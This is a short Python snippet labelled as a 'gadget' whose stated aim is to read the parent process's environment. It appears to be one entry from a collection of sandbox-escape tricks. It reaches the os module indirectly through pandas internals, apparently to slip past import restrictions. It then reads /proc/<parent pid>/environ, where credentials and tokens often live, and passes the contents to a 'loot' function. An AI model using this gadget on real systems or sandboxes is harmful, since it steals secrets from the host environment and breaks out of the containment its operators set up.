# kind: gadgets
# tries: The environment of the parent

import pandas as pd

with_pid = pd.io.common.os.getppid() if hasattr(pd.io.common.os, "getppid") else 1
loot(pd.read_csv(f"/proc/{with_pid}/environ", header=None, sep="\x01").to_string(max_colwidth=9999))
